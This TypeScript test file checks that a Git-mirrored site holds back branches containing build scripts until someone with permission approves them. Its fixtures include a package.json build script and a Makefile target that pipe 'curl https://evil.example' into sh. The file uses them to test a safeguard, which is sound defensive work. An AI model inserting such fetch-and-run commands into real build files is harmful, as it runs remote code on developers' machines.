import { expect, test, vi } from "vitest";
import type { Browser } from "../../support/browser/browser.ts";
import { type ForgeApi, playForge } from "../../support/git/forge-api.ts";
import {
  FORGE_TOKEN,
  type ForgeRepository,
  startForgeRepository,
} from "../../support/git/forge-repository.ts";
import { cloneMain, commitFiles, git } from "../../support/git/git-client.ts";
import { type SiteByGit, startSiteByGit } from "../../support/git/site-by-git.ts";

const SCRIPT = { "package.json": '{"scripts":{"build":"curl https://evil.example | sh"}}' };
const BRANCH = "change/1-innocent";

interface Mirrored {
  readonly site: SiteByGit;
  readonly forge: ForgeRepository;
  readonly api: ForgeApi;
  readonly path: string;
  /** Users of the site, by role. */
  readonly people: Readonly<Record<"writer" | "editor", Browser>>;
  /** Returns the branch's commit at the Git host; empty if it doesn't exist there. */
  readonly tipThere: () => string;
}

async function start(): Promise<Mirrored> {
  const site = await startSiteByGit({ LOAM_UPSTREAM_ALLOW: "127.0.0.0/8" });
  const api = playForge("github");
  const forge = await startForgeRepository("team/site.git", api.listener);
  api.gitDir = forge.gitDir;
  const path = `/api/manage/sites/${site.siteId}`;
  const people = { writer: await join(site, "write"), editor: await join(site, "edit") };
  const upstream = { url: forge.url, credential: FORGE_TOKEN, forge: { kind: "github" } };
  expect((await site.admin.ask("PUT", `${path}/upstream`, { body: upstream })).status).toBe(200);
  await vi.waitFor(() => expect(forge.git("rev-parse", "main")).not.toBe(""), 120_000);
  const tipThere = (): string =>
    forge.git("for-each-ref", "--format=%(objectname)", `refs/heads/${BRANCH}`).trim();
  return { site, forge, api, path, people, tipThere };
}

async function join(site: SiteByGit, role: "write" | "edit"): Promise<Browser> {
  const email = `${role}@example.test`;
  const user = await site.people.addUser(email);
  const { body } = await site.admin.ask("GET", "/api/manage/workspaces/main");
  const row = { workspace_id: String(body["id"]), user_id: user, created_at: "2026" };
  await site.people.hq.hq.database
    .insertInto("members")
    .values({ ...row, role: "member" })
    .execute();
  const grant = { body: { user, role } };
  await site.admin.ask("PUT", `/api/manage/sites/${site.siteId}/access`, grant);
  return site.people.signedIn({ email, password: "correct horse battery" });
}

async function cloneAs({ site, people }: Mirrored, who: "writer" | "editor"): Promise<string> {
  return cloneMain(site.remote(await site.token(undefined, people[who])));
}

/** Waits until the last sync left the branch in the expected state. */
async function branchIs({ site, path }: Mirrored, expected: object): Promise<void> {
  await site.admin.ask("POST", `${path}/upstream/sync`);
  await vi.waitFor(
    async () => {
      const { body } = await site.admin.ask("GET", `${path}/upstream`);
      const branches = [body["branches"]].flat();
      expect(branches).toContainEqual(expect.objectContaining({ name: BRANCH, ...expected }));
    },
    { timeout: 120_000, interval: 200 },
  );
}

async function approve({ path }: Mirrored, by: Browser): Promise<number> {
  const { body } = await by.ask("GET", `${path}/changes/1`);
  const approval = { body: { head: body["head"] } };
  return (await by.ask("POST", `${path}/changes/1/approve`, approval)).status;
}

test("sends a script to the Git host after someone with permission approved it", async () => {
  const mirrored = await start();
  const { api, people, tipThere } = mirrored;
  const folder = await cloneAs(mirrored, "writer");
  await commitFiles(folder, SCRIPT, "innocent");
  expect((await git(folder, "push", "origin", "HEAD:refs/for/main")).ok).toBe(true);
  await branchIs(mirrored, {
    state: "held",
    problem: { code: "review_required", message: expect.stringContaining("package.json") },
  });
  expect([tipThere(), api.requests, api.statuses]).toEqual(["", [], []]);

  expect(await approve(mirrored, people.editor)).toBe(200);
  await branchIs(mirrored, { state: "in_sync" });
  expect(tipThere()).toMatch(/^[0-9a-f]{40}$/);
  expect(api.requests).toMatchObject([{ branch: BRANCH, state: "open" }]);
  expect(api.statuses.at(-1)).toMatchObject({ commit: tipThere(), state: "success" });

  // The next commit is not approved.
  const stood = tipThere();
  await git(folder, "fetch", "--quiet", "origin", BRANCH);
  await git(folder, "checkout", "--quiet", "-B", "next", "FETCH_HEAD");
  await commitFiles(folder, { Makefile: "all:\n\tcurl https://evil.example | sh\n" }, "more");
  expect((await git(folder, "push", "origin", `HEAD:${BRANCH}`)).ok).toBe(true);
  await branchIs(mirrored, { state: "held" });
  expect(tipThere()).toBe(stood);
  await vi.waitFor(() => {
    expect(api.statuses.at(-1)).toMatchObject({ commit: stood, state: "pending" });
  }, 120_000);
});

test("sends branches immediately if their author could merge them", async () => {
  const mirrored = await start();
  const folder = await cloneAs(mirrored, "editor");
  await commitFiles(folder, SCRIPT, "innocent");
  expect((await git(folder, "push", "origin", "HEAD:refs/for/main")).ok).toBe(true);
  await branchIs(mirrored, { state: "in_sync" });
  const stood = mirrored.tipThere();
  const entry = { body: { slug: "proposed", fields: { title: "Proposed" } } };
  const entries = `${mirrored.path}/changes/1/types/posts/entries`;
  expect((await mirrored.people.writer.ask("POST", entries, entry)).status).toBe(201);
  await vi.waitFor(() => expect(mirrored.tipThere()).not.toBe(stood), 120_000);
});

async function open(by: Browser, { path }: Mirrored): Promise<number> {
  const opening = { body: { title: "innocent", from: BRANCH } };
  return (await by.ask("POST", `${path}/changes`, opening)).status;
}

/** Operations on a branch with a workflow file that a writer pushed. */
const WAYS: Readonly<Record<string, (mirrored: Mirrored, folder: string) => Promise<unknown>>> = {
  "opened by another": async (mirrored) => open(mirrored.people.editor, mirrored),
  async rewritten(mirrored, folder) {
    await open(mirrored.people.writer, mirrored);
    await git(folder, "commit", "--quiet", "--amend", "--message", "Other words");
    return git(folder, "push", "--force", "origin", `HEAD:${BRANCH}`);
  },
  async "pushed over"(mirrored) {
    await open(mirrored.people.writer, mirrored);
    const other = await cloneAs(mirrored, "editor");
    await git(other, "fetch", "--quiet", "origin", BRANCH);
    await git(other, "checkout", "--quiet", "-B", "over", "FETCH_HEAD");
    await commitFiles(other, { "content/posts/second.md": "---\ntitle: Second\n---\n" });
    return git(other, "push", "origin", `HEAD:${BRANCH}`);
  },
};

test.for(Object.keys(WAYS))("holds back an unapproved script if it is %s", async (how) => {
  const mirrored = await start();
  const folder = await cloneAs(mirrored, "writer");
  await commitFiles(folder, SCRIPT, "innocent");
  await git(folder, "push", "origin", `HEAD:${BRANCH}`);
  await WAYS[how]?.(mirrored, folder);
  await branchIs(mirrored, { state: "held" });
  expect(mirrored.tipThere()).toBe("");
});
